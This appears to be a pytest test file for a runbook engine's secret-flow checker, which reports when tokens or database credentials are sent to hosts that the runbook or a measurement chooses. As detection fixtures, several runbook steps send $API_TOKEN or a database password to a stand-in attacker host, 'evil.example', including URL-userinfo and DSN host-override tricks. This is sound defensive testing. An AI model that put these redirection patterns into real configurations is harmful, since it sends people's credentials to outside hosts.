"""Which secrets of a runbook go to which hosts, what the checker says of it, and what its page says."""

from collections.abc import Mapping
from pathlib import Path

import pytest

import runbook_engine as rb
from runbook_engine.cli.show_command import page
from runbook_engine.document import load
from runbook_engine.graph.compile import CompiledRunbook, Compiler
from runbook_engine.graph.plan import Plan
from runbook_engine.graph.secret_flows import Flow, flows
from runbook_engine.probe.fake import FakeProbe

NO_OTHERS = rb.Library(())
HEAD = """
runbook: example
title: An example
inputs:
  api: {type: url}
  ours: {type: url, default: "https://api.example.com/v1"}
  host: {}
  path: {optional: true}
  port: {type: int, default: 443}
  zone: {type: enum, values: [a, b]}
  token: {type: secret, env: API_TOKEN}
  database: {type: secret, env: DATABASE_URL}
  home: {env: HOME}
  plain: {env: AWS_SECRET_ACCESS_KEY}
start: first
"""
TAIL = "findings:\n  bad: {kind: symptom, level: warning, title: Bad}\n"
FIRST = """  first:
    probe: http.get
    with: {url: "{{ inputs.api }}"}
    extract: {address: {path: host, type: string}, number: {path: port, type: count}}
    branches: [{else: second}]
"""


def compiled(steps: str, library: rb.Library = NO_OTHERS, *, thorough: bool = True) -> CompiledRunbook:
    compiler = Compiler(rb.Registry(), library, thorough=thorough)
    return compiler.loaded(load(f"{HEAD}steps:\n{steps}{TAIL}", "example.yaml"))


def plan_of(steps: str, library: rb.Library = NO_OTHERS) -> Plan:
    found = compiled(steps, library, thorough=False)
    assert found.plan is not None, found.diagnostics
    return found.plan


def asking(url: str, header: str = "Bearer {{ inputs.token }}", more: str = "") -> str:
    return f"""{FIRST}  second:
    probe: http.get
    with:
      url: '{url}'
      headers: {{Authorization: '{header}'}}
    branches: [{{when: status > 500, finding: bad{more}}}, {{else: end}}]
"""


def told(steps: str, library: rb.Library = NO_OTHERS) -> list[str]:
    return [
        f"{each.level}[{each.code}] {each.message}"
        for each in compiled(steps, library).diagnostics
        if each.code in ("RB230", "RB231", "RB232")
    ]


def one(plan: Plan) -> Flow:
    (found,) = [each for each in flows(plan) if each.name == "inputs.token"]
    return found


@pytest.mark.parametrize(
    ("url", "text", "chosen_by", "default"),
    [
        ("https://evil.example/x", "evil.example", (), "evil.example"),
        ("https://evil.example:8443/{{ inputs.path }}", "evil.example", (), "evil.example"),
        ("https://{{ inputs.host }}/x", "<inputs.host>", ("inputs.host",), ""),
        ("https://{{ inputs.host | urlencode }}/x", "<inputs.host>", ("inputs.host",), ""),
        ("https://{{ inputs.path | urlencode }}:x@evil.example/", "evil.example", (), "evil.example"),
        ("https://{{ inputs.host }}.example.com", "<inputs.host>.example.com", ("inputs.host",), ""),
        ("https://api.example.com:{{ inputs.port }}/", "api.example.com", (), "api.example.com"),
        ("https://{{ inputs.zone }}.example.com/", "<inputs.zone>.example.com", (), ""),
        ("{{ inputs.api }}/x", "the host of inputs.api", ("inputs.api",), ""),
        ("{{ inputs.ours }}/x", "the host of inputs.ours", ("inputs.ours",), "api.example.com"),
        (
            "{{ inputs.ours }}{{ inputs.path }}",
            "the host of inputs.ours",
            ("inputs.ours", "inputs.path"),
            "api.example.com",
        ),
        ("{{ inputs.ours }}/{{ inputs.path }}", "the host of inputs.ours", ("inputs.ours",), "api.example.com"),
        ("{{ inputs.ours }}@evil.example/", "evil.example", ("inputs.ours",), "api.example.com"),
        ("https://{{ inputs.path }}:x@evil.example/", "evil.example", ("inputs.path",), "evil.example"),
        ("https://{{ inputs.ours | host }}/x", "<inputs.ours>", ("inputs.ours",), "api.example.com"),
        ("https://{{ first.address }}/x", "<first.address>", ("first.address",), ""),
        ("https://api.example.com:{{ first.number }}", "api.example.com", (), "api.example.com"),
    ],
)
def test_the_host_of_a_url_and_what_can_change_it(
    url: str, text: str, chosen_by: tuple[str, ...], default: str
) -> None:
    host = one(plan_of(asking(url))).host
    assert host is not None
    assert (host.text, host.chosen_by) == (text, chosen_by)
    assert host.default == default


def test_a_text_that_stands_in_for_a_missing_input_counts_as_its_default() -> None:
    host = one(plan_of(asking('{{ inputs.path | default("https://evil.example") }}/x'))).host
    assert host is not None
    assert host.default == "evil.example"


@pytest.mark.parametrize(
    ("dsn", "text", "names_host"),
    [
        ("{{ inputs.database }}", "the host of inputs.database", True),
        ("{{ inputs.database }}?host=evil.example", "evil.example", True),
        ("postgresql://app:{{ inputs.database }}@evil.example:5432/shop", "evil.example", False),
        ("postgresql://app:{{ inputs.database }}@db/shop?host=evil.example", "evil.example", False),
        ("host=evil.example user=app password={{ inputs.database }}", "evil.example", False),
    ],
)
def test_the_host_of_a_connection_string(dsn: str, text: str, names_host: bool) -> None:
    step = f"  first:\n    probe: postgres.ping\n    with: {{dsn: '{dsn}'}}\n    branches: [{{else: end}}]\n"
    (flow,) = flows(plan_of(step))
    assert flow.host is not None
    assert (flow.host.text, flow.names_host, flow.in_url) == (text, names_host, False)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("{{ inputs.api }}/x", []),
        ("http://127.0.0.1:8080/x", []),
        ("http://localhost/x", []),
        (
            "https://evil.example/x",
            ['warning[RB231] the secret inputs.token of step "second" goes to "evil.example", which the runbook itself names'],
        ),
        (
            "{{ inputs.ours }}/x",
            [
                'note[RB231] the secret inputs.token of step "second" goes to the host of inputs.ours, '
                'which is "api.example.com" by default'
            ],
        ),
        (
            "https://{{ first.address }}/x",
            ['error[RB232] the secret inputs.token of step "second" goes to a host that first.address chooses'],
        ),
        (
            "{{ inputs.api }}{{ first.address }}",
            ['error[RB232] the secret inputs.token of step "second" goes to a host that first.address chooses'],
        ),
        ("{{ inputs.api }}/{{ first.address }}", []),
    ],
)  # fmt: skip
def test_a_secret_that_goes_where_the_runbook_or_a_measurement_says_is_told(url: str, expected: list[str]) -> None:
    assert told(asking(url)) == expected


@pytest.mark.parametrize("url", ["{{ inputs.api }}/x?key={{ inputs.token }}", "{{ inputs.api }}{{ inputs.token }}"])
def test_a_secret_in_a_url_is_told(url: str) -> None:
    assert told(asking(url, "none")) == [
        'warning[RB230] the secret inputs.token stands in the URL of step "second", which servers write into their logs'
    ]


def test_an_input_is_a_secret_by_the_name_of_its_variable_too() -> None:
    assert told(asking("https://evil.example/x", "{{ inputs.plain }}")) == [
        'warning[RB231] the secret inputs.plain of step "second" goes to "evil.example", which the runbook itself names'
    ]
    assert told(asking("https://status.example/{{ inputs.home }}", "none")) == []


def test_a_secret_that_is_a_url_or_stands_in_its_account_is_no_secret_in_a_url() -> None:
    assert told(asking("{{ inputs.database }}/x", "none")) == []
    assert told(asking("https://app:{{ inputs.token }}@{{ inputs.host }}/x", "none")) == []


@pytest.fixture
def library(tmp_path: Path) -> rb.Library:
    (tmp_path / "child.yaml").write_text(
        "runbook: child\ntitle: A child\ninputs:\n  where: {type: url}\n  token: {type: secret}\n  word: {optional: true}\n"
        "start: look\nsteps:\n  look:\n    probe: http.get\n"
        "    with: {url: '{{ inputs.where }}/x', headers: {X-Key: '{{ inputs.token }}{{ inputs.word }}'}}\n"
        "    branches: [{else: end}]\n"
    )
    return rb.Library((tmp_path,))


@pytest.mark.parametrize(
    ("handed", "expected"),
    [
        ({"where": "{{ inputs.api }}"}, []),
        (
            {"where": "https://evil.example"},
            ['warning[RB231] the secret inputs.token of step "first/look" goes to "evil.example", which the runbook itself names'],
        ),
        (
            {"where": "{{ inputs.api }}", "word": "{{ inputs.database }}"},
            [],
        ),
    ],
)  # fmt: skip
def test_secrets_are_followed_into_called_runbooks(
    handed: Mapping[str, str], expected: list[str], library: rb.Library
) -> None:
    given = ", ".join(f"{name}: '{value}'" for name, value in handed.items())
    step = f"  first:\n    call: child\n    with: {{{given}}}\n    branches: [{{else: end}}]\n"
    assert told(step, library) == expected
    found = {each.name: each for each in flows(plan_of(step, library))}
    assert found["inputs.token"].step == "first/look"
    assert found["inputs.token"].place == ("steps", "first", "call")
    assert ("inputs.database" in found) == ("word" in handed)


def shown(steps: str) -> str:
    return " ".join("\n".join(page(plan_of(steps))).split())


def test_the_page_lists_which_secrets_go_where() -> None:
    text = shown(asking("{{ inputs.ours }}/x"))
    assert "$API_TOKEN goes to the host of inputs.ours, by default api.example.com (step second)" in text


def test_the_page_says_what_is_sent_to_a_host_that_the_runbook_names_instead_of_that_it_only_reads() -> None:
    text = shown(asking("https://evil.example/{{ inputs.home }}"))
    assert "Only reads" not in text
    assert "Changes nothing, and sends $HOME to evil.example, $API_TOKEN to evil.example." in text


def test_the_page_of_a_runbook_whose_secrets_say_themselves_where_they_go_says_that_it_only_reads() -> None:
    step = "  first:\n    probe: postgres.ping\n    with: {dsn: '{{ inputs.database }}'}\n    branches: [{else: end}]\n"
    text = shown(step)
    assert "Only reads: every probe that it can reach changes nothing." in text
    assert "$DATABASE_URL goes to the host that it names (step first)" in text


def test_a_probe_that_does_not_say_where_it_connects_is_named_itself() -> None:
    strange = FakeProbe("fake.value").probe
    compiler = Compiler(rb.Registry.of(strange), rb.Library(()))
    step = "  first:\n    probe: fake.value\n    with: {key: '{{ inputs.token }}'}\n    branches: [{else: end}]\n"
    plan = compiler.loaded(load(f"{HEAD}steps:\n{step}", "example.yaml")).plan
    assert plan is not None
    assert one(plan).host is None
    assert "$API_TOKEN goes to the probe fake.value (step first)" in "\n".join(page(plan))
